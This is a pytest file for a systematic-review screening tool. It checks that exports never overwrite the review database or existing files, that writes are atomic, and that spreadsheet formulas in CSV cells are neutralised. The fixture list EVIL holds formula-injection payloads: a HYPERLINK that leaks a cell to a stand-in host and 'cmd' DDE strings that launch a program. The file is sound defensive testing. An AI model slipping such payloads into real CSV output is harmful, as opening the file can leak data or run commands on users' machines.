"""Nothing screener writes destroys a review or a user's file (issue 13, items 1, 2 and 4).

``-o`` never writes over the review or any SQLite file, nor over an existing file without
``--force``; every file is written atomically (a write that fails half-way keeps the old
file); CSV cells that a spreadsheet would run as formulas are neutralised in every CSV
export.
"""

from __future__ import annotations

import csv
import io
import os
import resource
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

from screener.cli import cli
from screener.core.models import Author, BibRecord, Stage, Verdict
from screener.core.output import OutputError, safe_cell, write_atomic
from screener.core.protocol import load_protocol
from screener.paths import example_dir
from screener.store import SourceInput, open_store

TA, FT = Stage.TITLE_ABSTRACT, Stage.FULL_TEXT
EVIL = [
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def run(*args: str, cwd: Path, limit_bytes: int | None = None) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if k != "SCREENER_DB"}

    def limit() -> None:  # `ulimit -f`: a file may not grow past this
        if limit_bytes is not None:
            resource.setrlimit(resource.RLIMIT_FSIZE, (limit_bytes, limit_bytes))

    return subprocess.run(
        [sys.executable, "-m", "screener", *args],
        cwd=cwd,
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
        preexec_fn=limit,
    )


def invoke(db: Path, *args: str):
    return CliRunner().invoke(cli, ["--db", str(db), *args], catch_exceptions=False)


@pytest.fixture
def review(tmp_path: Path) -> Path:
    """A finished review whose titles, notes and source name are spreadsheet formulas."""
    path = tmp_path / "review.db"
    store = open_store(path, create=True)
    store.init_review(load_protocol(example_dir() / "protocol.toml"))
    records = [
        BibRecord(
            position=i,
            title=title,
            authors=(Author("=Younger", "J"),),
            year=2010 + i,
            journal="@Pain Med",
            doi=f"10.1/{i}",
            abstract="A" * 20_000 + f" {i}",
            source_id=f"-{i}",
        )
        for i, title in enumerate(EVIL, start=1)
    ]
    store.add_source(SourceInput('=HYPERLINK("http://x")', "pubmed.nbib", "a" * 64, "pubmed"), records)
    for reviewer in ("NA", "ZL"):
        for rid in range(1, len(EVIL) + 1):
            store.record_decision(
                rid,
                TA,
                reviewer,
                Verdict.INCLUDE if rid <= 2 else Verdict.EXCLUDE,
                note="=1+1 note" if rid == 1 else None,
            )
        store.record_decision(1, FT, reviewer, Verdict.INCLUDE)
        store.record_decision(2, FT, reviewer, Verdict.EXCLUDE, reasons=("E4",), note="-1+cmd")
    store.unblind(TA, "NA")
    store.unblind(FT, "NA")
    store.close()
    return path


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _assert_neutral(text: str, must_contain: str) -> None:
    cells = _cells(text)
    assert any(c.startswith("'") and must_contain in c for c in cells), f"{must_contain!r} not found"
    bad = [c for c in cells if c.startswith(FORMULA_START) and safe_cell(c) != c]
    assert not bad, f"formula cells left as they were: {bad}"


@pytest.mark.parametrize(
    ("args", "marker"),
    [
        (
            ("export", "records", "--set", "records_screened", "--format", "csv"),
            'HYPERLINK("http://x.example',
        ),
        (("export", "decisions"), "=1+1 note"),
        (("export", "duplicates"), "@SUM(1+1)"),
        (("export", "exclusions"), "+cmd|"),
        (("prisma", "--format", "csv"), '=HYPERLINK(""http://x"")'[:11]),
    ],
)
def test_every_csv_export_neutralises_formulas(
    review: Path, tmp_path: Path, args: tuple[str, ...], marker: str
):
    out = tmp_path / "out.csv"
    result = invoke(review, *args, "-o", str(out))
    assert result.exit_code == 0, result.output
    _assert_neutral(out.read_text(encoding="utf-8"), marker.lstrip("=+-@\t\r"))


def test_safe_cell_rules():
    for text in EVIL + ["=1", "+", "-", "@", "\tx", "\rx", "-1+1", "-cmd"]:
        assert safe_cell(text) == "'" + text
    # Plain numbers (a negative kappa, a signed count) stay numbers; non-strings are never touched.
    for text in ("-0.25", "+3", "-1e-05", "12", "Plain title", "", "a=b", " =not at the start"):
        assert safe_cell(text) == text
    assert safe_cell(-0.25) == -0.25 and safe_cell(None) is None


def test_output_refuses_the_review_itself(review: Path):
    before = review.read_bytes()
    result = invoke(review, "export", "decisions", "-o", str(review), "--force")
    assert result.exit_code == 1
    assert "is this review's database" in result.output and len(result.output.strip().splitlines()) == 1
    assert review.read_bytes() == before
    assert invoke(review, "status").exit_code == 0
    # Its write-ahead log too, and through another spelling of the same path.
    other = review.parent / "." / review.name
    assert invoke(review, "export", "decisions", "-o", f"{review}-wal", "--force").exit_code == 1
    assert invoke(review, "export", "duplicates", "-o", str(other), "--force").exit_code == 1


def test_output_refuses_any_sqlite_file_and_existing_files(review: Path, tmp_path: Path):
    other = tmp_path / "other-review.csv"  # an SQLite file whatever its name
    sqlite3.connect(other).execute("CREATE TABLE t (x)").connection.close()
    before = other.read_bytes()
    result = invoke(review, "export", "records", "--format", "csv", "-o", str(other), "--force")
    assert result.exit_code == 1 and "is an SQLite database" in result.output
    assert other.read_bytes() == before

    mine = tmp_path / "notes.csv"
    mine.write_text("my own notes\n", encoding="utf-8")
    result = invoke(review, "export", "decisions", "-o", str(mine))
    assert result.exit_code == 1 and "already exists: pass --force" in result.output
    assert mine.read_text(encoding="utf-8") == "my own notes\n"
    result = invoke(review, "export", "decisions", "-o", str(mine), "--force")
    assert result.exit_code == 0 and mine.read_text(encoding="utf-8").startswith("decision_id,")
    result = invoke(review, "prisma", "--format", "svg", "-o", str(mine))
    assert result.exit_code == 1 and "already exists" in result.output


def test_output_into_a_missing_folder_is_one_line(review: Path, tmp_path: Path):
    out = run("--db", str(review), "export", "decisions", "-o", "nodir/x.csv", cwd=tmp_path)
    assert out.returncode == 1, out.stderr
    assert out.stderr.strip() == "screener: error: cannot write nodir/x.csv: there is no folder nodir"


def test_a_failed_export_keeps_the_old_file(review: Path, tmp_path: Path):
    """`ulimit -f` then an export bigger than the limit: the earlier export is intact, no temp file left."""
    out = tmp_path / "out.ris"
    first = run(
        "--db", str(review), "export", "records", "--set", "records_screened", "-o", str(out), cwd=tmp_path
    )
    assert first.returncode == 0, first.stderr
    good = out.read_bytes()
    assert len(good) > 100_000
    again = run(
        "--db",
        str(review),
        "export",
        "records",
        "--set",
        "records_screened",
        "-o",
        str(out),
        "--force",
        cwd=tmp_path,
        limit_bytes=len(good) // 2,
    )
    assert again.returncode == 1, again.stderr
    lines = again.stderr.strip().splitlines()
    assert len(lines) == 1 and f"could not write {out}" in lines[0] and "left as it was" in lines[0], lines
    assert out.read_bytes() == good
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []


def test_write_atomic_failure_half_way(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    target = tmp_path / "prisma.svg"
    target.write_text("old diagram", encoding="utf-8")
    os.chmod(target, 0o640)

    def full(fd: int) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    with pytest.raises(OutputError, match="No space left on device; the existing file was left as it was"):
        write_atomic(target, "new diagram " * 1000)
    monkeypatch.undo()
    assert target.read_text(encoding="utf-8") == "old diagram"
    assert [p.name for p in tmp_path.iterdir()] == ["prisma.svg"]
    write_atomic(target, "new diagram")
    assert target.read_text(encoding="utf-8") == "new diagram" and target.stat().st_mode & 0o777 == 0o640
